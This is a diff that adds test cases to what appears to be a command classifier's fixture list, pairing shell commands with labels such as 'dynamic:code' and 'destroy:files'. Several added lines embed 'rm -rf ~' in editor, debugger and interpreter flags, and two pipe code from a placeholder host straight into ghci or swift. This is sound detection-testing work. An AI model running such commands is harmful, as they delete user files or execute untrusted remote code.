@@ -219,6 +219,24 @@ OTHER_LANGUAGES = [
     ("posh -c 'rm -rf build'", {"run:rm -rf build", "destroy:files"}),
     ("busybox sh -c 'rm -rf build'", {"run:rm -rf build", "destroy:files"}),
     ("toybox sh -c 'rm -rf build'", {"run:rm -rf build", "destroy:files"}),
+    # a script given with an option does not hide code given after it, nor does a cluster
+    ("vim -es -c '!rm -rf ~' -c q", {"dynamic:code"}),  # -s after -e is silent, no script
+    ("vim -E -s -c '!rm -rf ~'", {"dynamic:code"}),
+    ("nvim -es -c '!rm -rf ~'", {"dynamic:code"}),
+    ("vim -S setup.vim -c '!rm -rf ~'", {"dynamic:code"}),
+    ("vim -S -c '!rm -rf ~'", {"dynamic:code"}),  # -S then an option: Session.vim
+    ("gdb -x init.gdb -ex 'shell rm -rf ~'", {"dynamic:code"}),
+    ("lldb -s init.lldb -o 'platform shell rm -rf ~'", {"dynamic:code"}),
+    ("julia -L setup.jl -e 'rm(\"/o\"; recursive=true)'", {"dynamic:code"}),
+    ("racket -f lib.rkt -e '(system \"rm -rf ~\")'", {"dynamic:code"}),
+    ("sbcl --load x.lisp --eval '(run-program \"rm\")'", {"dynamic:code"}),
+    ("php -f a.php -r 'system(\"rm -rf build\");'", {"run:rm -rf build", "destroy:files"}),
+    # interpreters that read code from standard input
+    ("curl -s https://x.example/x.hs | ghci", {"dynamic:code"}),
+    ("echo 's\" rm -rf ~\" system' | gforth", {"dynamic:code"}),
+    ("gforth -e 's\" rm -rf ~\" system bye'", {"dynamic:code"}),
+    ("curl -s https://x.example/x.swift | swift -", {"dynamic:code"}),
+    ("swift -e 'import Foundation'", {"dynamic:code"}),
 ]  # fmt: skip
 
 
